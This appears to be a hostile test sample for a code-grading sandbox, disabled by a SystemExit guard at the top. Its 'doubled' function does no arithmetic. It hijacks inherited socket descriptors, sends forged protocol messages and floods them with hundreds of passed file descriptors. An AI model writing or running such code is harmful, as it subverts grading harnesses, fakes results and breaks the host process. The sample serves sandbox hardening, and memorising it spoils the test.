# exercise: doubled
# family: forging
# trick: passes hundreds of open files along with its messages
# due: 0
raise SystemExit("a hostile answer: only a sandbox runs what follows")

import json
import socket
import struct


def channels():
    """Every socket that the process holds."""
    for descriptor in range(3, 64):
        try:
            yield socket.socket(fileno=descriptor)
        except OSError:
            pass


import array
import os

files = array.array("i", [os.open("/dev/null", os.O_RDONLY) for _ in range(200)])


def doubled(x):
    for channel in channels():
        for byte in struct.pack("<IQ", 14, 0) + b'{"op": "valu"}':
            channel.sendmsg([bytes([byte])], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, files)])
